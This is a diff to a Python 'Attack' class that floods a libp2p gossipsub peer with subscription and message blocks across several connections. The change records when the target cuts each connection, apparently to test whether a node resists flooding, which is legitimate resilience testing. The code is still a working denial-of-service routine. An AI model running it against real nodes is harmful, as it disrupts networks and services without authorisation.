@@ -83,8 +83,8 @@ class Attack:
         self.victim = victim
         self.began = 0.0
         self.sent = 0
-        self.open = 0  # connections over which it sends
-        self.was_cut = False
+        self.opened: set[int] = set()  # connections over which it sent
+        self.cut: set[int] = set()  # those that were closed once
 
     def begin(self) -> None:
         self.began = time.monotonic()
@@ -102,23 +102,26 @@ class Attack:
             for _ in range(links - 1):
                 hosts.append(new_host(key_pair=KeyPair(keys, keys.get_public_key())))
                 await stack.enter_async_context(hosts[-1].run([Multiaddr(_ANYWHERE)]))
+                await hosts[-1].connect(self.victim)
+            await self.host.connect(self.victim)
             self.begin()
             async with trio.open_nursery() as tasks:
-                for host in hosts:
-                    tasks.start_soon(self._send, host, blocks, per_s, for_s)
+                for link, host in enumerate(hosts):
+                    tasks.start_soon(self._send, link, host, blocks, per_s, for_s)
         say("sent", self.sent)
 
-    async def _send(self, host: IHost, blocks: list[bytes], per_s: int, for_s: float) -> None:
-        """One connection's part of a flood; all share the blocks, the rate and the count. It is cut
-        off when none is left."""
+    async def _send(
+        self, link: int, host: IHost, blocks: list[bytes], per_s: int, for_s: float
+    ) -> None:
+        """One connection's part of a flood; all share the blocks, the rate and the count. The peer
+        is cut off when each of them was once."""
         while time.monotonic() - self.began < for_s:
-            is_open = False
             try:
                 await host.connect(self.victim)
                 stream = await host.new_stream(self.victim.peer_id, [GOSSIP])
                 subscription = rpc_pb2.RPC.SubOpts(subscribe=True, topicid=TOPIC)
                 await stream.write(block(rpc_pb2.RPC(subscriptions=[subscription])))
-                is_open, self.open = True, self.open + 1
+                self.opened.add(link)
                 while time.monotonic() - self.began < for_s:
                     ahead_s = self.sent / per_s - (time.monotonic() - self.began)
                     if ahead_s > 0:
@@ -127,10 +130,9 @@ class Attack:
                     self.sent += _BATCH
                     await stream.write(blocks[self.sent // _BATCH % len(blocks)])
             except Exception:  # noqa: BLE001  however the library calls it: it is cut off
-                self.open -= is_open
-                if self.sent and not self.open and not self.was_cut:
+                if self.opened - self.cut == {link}:
                     say("cut", self.at(), self.sent)
-                    self.was_cut = True
+                self.cut |= {link} & self.opened
                 await trio.sleep(0.2)
 
     async def hold_streams(self, protocol: str, count: int, said: bytes, for_s: float) -> None:
